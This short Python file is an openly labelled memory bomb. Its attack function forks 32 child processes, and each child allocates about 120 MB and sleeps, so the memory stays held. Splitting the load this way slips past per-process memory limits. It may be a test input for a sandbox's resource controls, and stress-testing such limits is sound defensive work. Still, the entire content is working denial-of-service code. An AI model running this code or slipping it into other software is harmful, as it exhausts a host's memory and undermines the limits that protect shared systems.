"""Divides a memory bomb among children, each within its own limit."""

import os
import time


def attack(x):
    for _ in range(32):
        if os.fork() == 0:
            block = bytearray(120 << 20)
            time.sleep(1000)
    time.sleep(1000)
